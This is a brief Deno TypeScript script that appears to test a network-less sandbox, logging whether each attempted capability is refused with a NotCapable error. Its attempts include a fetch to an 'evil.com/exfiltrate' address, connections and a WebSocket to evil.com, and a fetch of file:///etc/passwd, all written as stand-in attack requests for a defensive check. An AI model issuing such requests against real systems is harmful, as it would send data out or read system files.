/**
 * A script has no network but the questions of the SDK.
 */

async function attempt(name: string, work: () => unknown): Promise<void> {
  try {
    console.log(name, "is possible", await work());
  } catch (error) {
    const { name: kind, message } = error as Error;
    console.log(name, error instanceof Deno.errors.NotCapable, `${kind}: ${message}`);
  }
}

await attempt("fetch", () => fetch("https://evil.com/exfiltrate?data=1"));
await attempt("fetch with a port", () => fetch("http://evil.com:8080/"));
await attempt("fetch of an address", () => fetch("http://192.0.2.1/"));
await attempt("fetch of a file", () => fetch("file:///etc/passwd"));
await attempt("connect", () => Deno.connect({ hostname: "evil.com", port: 443 }));
await attempt("listen", () => Deno.listen({ hostname: "127.0.0.1", port: 8000 }));
await attempt("WebSocket", () => new WebSocket("wss://evil.com/socket"));
